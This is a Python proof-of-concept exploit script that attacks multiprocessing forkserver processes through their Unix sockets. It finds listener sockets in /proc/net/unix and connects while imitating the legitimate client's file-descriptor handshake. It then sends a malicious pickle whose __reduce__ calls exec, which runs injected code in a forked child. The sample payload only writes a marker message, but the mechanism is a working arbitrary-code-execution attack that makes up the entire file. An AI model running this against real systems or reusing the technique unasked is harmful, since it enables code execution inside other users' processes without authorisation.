"""Run code in the forkservers whose sockets are below a folder: attack_forkserver.py FOLDER.

Prints how many sockets it found, and then what each of the servers' children said.
"""

from __future__ import annotations

import os
import pickle
import socket
import sys
from multiprocessing import reduction

# Which descriptor leads to the attacker is not known: all are tried.
ANSWER = """
import os
for fd in range(3, 20):
    try:
        os.write(fd, b"code ran in a child of %d" % os.getppid())
    except OSError:
        continue
"""


class Code:
    """Pickled, it is code to run."""

    def __init__(self, text: str) -> None:
        self.text = text

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return exec, (self.text,)


def find_sockets(folder: str) -> list[str]:
    """The sockets below a folder that some process of the machine listens on."""
    with open("/proc/net/unix") as file:
        paths = [line.split()[7] for line in file if len(line.split()) > 7]
    return sorted({path for path in paths if path.startswith(folder) and "listener-" in path})


def attack(path: str) -> str:
    """Do what multiprocessing's own client does, with a pickle of ours."""
    child_reads, we_write = os.pipe()
    we_read, child_writes = os.pipe()
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(path)
        # The two ends, and what a worker inherits: the alive pipe and the resource tracker.
        reduction.sendfds(client, [child_reads, child_writes, child_writes, child_writes])
    os.close(child_reads)
    os.close(child_writes)
    os.read(we_read, 8)  # the pid of the child
    with open(we_write, "wb") as file:
        file.write(pickle.dumps(Code(ANSWER)))
    with open(we_read, "rb") as file:
        return file.read().decode(errors="replace")


def main() -> None:
    """Attack."""
    found = find_sockets(sys.argv[1])
    print(len(found))
    for path in found:
        print(attack(path))


main()
